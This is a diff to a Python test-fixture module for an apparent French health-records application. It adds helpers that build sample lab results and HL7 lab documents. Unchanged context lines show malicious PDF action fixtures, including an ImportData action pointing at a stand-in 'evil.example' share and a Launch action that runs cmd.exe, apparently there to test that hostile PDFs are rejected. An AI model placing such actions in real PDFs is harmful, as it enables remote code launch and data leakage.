@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import io
 import zlib
-from datetime import date
+from datetime import date, datetime
 from itertools import count
 
 from pypdf import PdfReader, PdfWriter
@@ -24,6 +24,7 @@ from vigie.accounts.models import Role, User
 from vigie.records.identifiers import nir_key
 from vigie.records.ingest import DocumentMeta, ingest
 from vigie.records.models import Document, Patient
+from vigie.records.results import Observation, ResultGroup, ResultSet
 
 _seq = count(1)
 
@@ -212,3 +213,80 @@ ACTION_ATTACKS = {
     "import_data": (_action("/ImportData", F="\\\\evil.example\\share\\data.fdf"), "import_data"),
     "launch": (_action("/Launch", F="C:\\Windows\\System32\\cmd.exe"), "launch_action"),
 }
+
+
+def sample_results(
+    potassium: str = "5.9", flag: str = "H", *, when: datetime | None = None, **group: object
+) -> ResultSet:
+    """A small lab report as a channel would hand it over: a LOINC-coded numeric value
+    (potassium, flagged), a lab-local one, a text result with a comment."""
+    at = when or datetime(2026, 11, 2, 8, 30)
+    observations = (
+        Observation.from_text(
+            code="2823-3",
+            code_system="LN",
+            label="Potassium",
+            value=potassium,
+            unit="mmol/L",
+            reference_range="3.5-5.0",
+            flag=flag,
+            status="F",
+            observed_at=at,
+            value_type="NM",
+        ),
+        Observation.from_text(
+            code="CREA",
+            code_system="LABO-TEST",
+            label="Créatinine",
+            value="78",
+            unit="µmol/L",
+            reference_range="45-90",
+            status="F",
+            observed_at=at,
+            value_type="NM",
+        ),
+        Observation.from_text(
+            code="ASP",
+            code_system="",
+            label="Aspect du sérum",
+            value="Limpide",
+            status="F",
+            observed_at=at,
+            comments=("Prélèvement à jeun",),
+            value_type="ST",
+        ),
+    )
+    fields: dict[str, object] = {"code": "IONO", "label": "Ionogramme", "observed_at": at}
+    fields.update(group)
+    return ResultSet(
+        source="LABO-TEST",
+        groups=(ResultGroup(observations=observations, **fields),),  # type: ignore[arg-type]
+        reference="R-0001",
+    )
+
+
+def make_lab_document(
+    patient: Patient,
+    results: ResultSet,
+    *,
+    message: bytes = b"MSH|^~\\&|LAB|LAB|||20261102||ORU^R01|1|P|2.5\r",
+    attachment: bytes | None = None,
+    **meta: object,
+) -> Document:
+    """A lab message stored with its results, as the HL7 channel stores one."""
+    day = results.clinical_date or date(2026, 11, 2)
+    fields: dict[str, object] = {
+        "kind": "lab_result",
+        "title": "Ionogramme",
+        "clinical_date": day,
+        "source_system": "LABO-TEST",
+        "content_type": "application/hl7-v2",
+    }
+    fields.update(meta)
+    return ingest(
+        patient,
+        DocumentMeta(**fields),  # type: ignore[arg-type]
+        io.BytesIO(message),
+        results=results,
+        attachment=attachment,
+    )
